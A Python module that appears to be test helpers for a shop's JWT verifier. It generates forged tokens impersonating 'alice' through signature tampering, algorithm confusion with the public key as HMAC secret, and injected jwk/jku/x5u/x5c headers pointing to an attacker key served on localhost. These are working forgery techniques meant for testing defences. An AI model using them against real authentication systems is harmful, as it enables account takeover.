"""Forgeries by somebody who has a genuine token of her own and no key: made, not listed.

Each is a token that says alice, by kind: the signature that belongs to other claims, a piece of it,
one bit of it, one of the attacker's own key; and the key that the token brings along or points to
(RFC 8725 sections 3.10 and 2.5).
"""

from __future__ import annotations

import base64
import json
import random
import threading
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from functools import cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, padding, rsa
from cryptography.x509.oid import NameOID

from ..shop.jws import encode, from_base64url, to_base64url

Fields = Mapping[str, Any]


def with_other_claims(token: str, seed: int) -> Iterator[tuple[str, str]]:
    """Yield kind and token: alice's name in the claims, the header untouched, no key."""
    header, claims, old = _parts(token)
    signed = encode({**claims, "sub": "alice"}, header)
    size = len(old)
    noise = random.Random(seed).randbytes(size)  # noqa: S311 - any bytes will do
    flipped = bytes([old[0] ^ 1]) + old[1:]
    own = _attackers().sign(signed.encode(), padding.PKCS1v15(), hashes.SHA256())
    for kind, signature in (
        ("kept", old),
        ("flipped", flipped),
        ("cut", old[: size // 2]),
        ("cut", old[:1]),
        ("empty", b""),
        ("noise", noise),
        ("noise", bytes(size)),
        ("foreign", own),
    ):
        yield kind, f"{signed}.{to_base64url(signature)}"


def with_other_algorithms(token: str) -> Iterator[tuple[str, str]]:
    """Yield tokens that name another algorithm and are signed by the attacker's own keys."""
    header, claims, old = _parts(token)
    changed = {**claims, "sub": "alice"}
    curve = ec.generate_private_key(ec.SECP256R1())
    for name in ("RS384", "PS256", "ES256", "rs256", "RS256 ", "HS512", "EdDSA"):
        signed = encode(changed, {**header, "alg": name}).encode()
        if name == "ES256":
            signature = curve.sign(signed, ec.ECDSA(hashes.SHA256()))
        elif name == "PS256":
            pss = padding.PSS(padding.MGF1(hashes.SHA256()), padding.PSS.DIGEST_LENGTH)
            signature = _attackers().sign(signed, pss, hashes.SHA256())
        else:
            signature = _attackers().sign(signed, padding.PKCS1v15(), hashes.SHA256())
        yield "foreign", f"{signed.decode()}.{to_base64url(signature)}"
        yield "kept", f"{signed.decode()}.{to_base64url(old)}"


def with_own_key(token: str, address: str) -> Iterator[tuple[str, str]]:
    """Yield tokens signed by the attacker's key, which the token holds or says where to find."""
    header, claims, _ = _parts(token)
    cert = _certificate()
    der = base64.b64encode(cert.public_bytes(serialization.Encoding.DER)).decode()
    for name, value in (
        ("jwk", jwk()),
        ("jku", f"{address}/jwks.json"),
        ("x5u", f"{address}/cert.pem"),
        ("x5c", [der]),
    ):
        signed = encode({**claims, "sub": "alice"}, {**header, name: value})
        signature = _attackers().sign(signed.encode(), padding.PKCS1v15(), hashes.SHA256())
        yield name, f"{signed}.{to_base64url(signature)}"


def spellings_of(public: str) -> Iterator[bytes]:
    """Yield a public key in the forms that might end up as the secret of an HMAC."""
    key = serialization.load_pem_public_key(public.encode())
    assert isinstance(key, rsa.RSAPublicKey)
    pem = public.encode()
    yield from (pem, pem.strip(), pem.replace(b"\n", b""), pem.replace(b"\n", b"\r\n"))
    der = (serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo)
    yield key.public_bytes(*der)
    yield base64.b64encode(key.public_bytes(*der))
    yield key.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1)
    number = key.public_numbers().n
    yield number.to_bytes((number.bit_length() + 7) // 8, "big")


def jwk() -> dict[str, str]:
    """The attacker's public key as a JWK (RFC 7517), under the shop's key ID."""
    numbers = _attackers().public_key().public_numbers()
    n = to_base64url(numbers.n.to_bytes(256, "big"))
    return {"kty": "RSA", "kid": "main", "use": "sig", "alg": "RS256", "n": n, "e": "AQAB"}


@contextmanager
def attackers_keys() -> Iterator[str]:
    """Serve the attacker's keys on this machine's own address, for a verifier that fetches them."""

    class Answers(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = _certificate().public_bytes(serialization.Encoding.PEM)
            if self.path.endswith(".json"):
                body = json.dumps({"keys": [jwk()]}).encode()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Answers) as server:
        thread = threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.server_address[1]}"
        finally:
            server.shutdown()
            thread.join()


def _parts(token: str) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    header, claims, signature = map(from_base64url, token.split("."))
    return json.loads(header), json.loads(claims), signature


@cache
def _attackers() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


@cache
def _certificate() -> x509.Certificate:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "evil.localhost")])
    now = datetime.now(UTC)
    built = x509.CertificateBuilder(name, name, _attackers().public_key())
    built = built.serial_number(1).not_valid_before(now - timedelta(days=1))
    return built.not_valid_after(now + timedelta(days=1)).sign(_attackers(), hashes.SHA256())
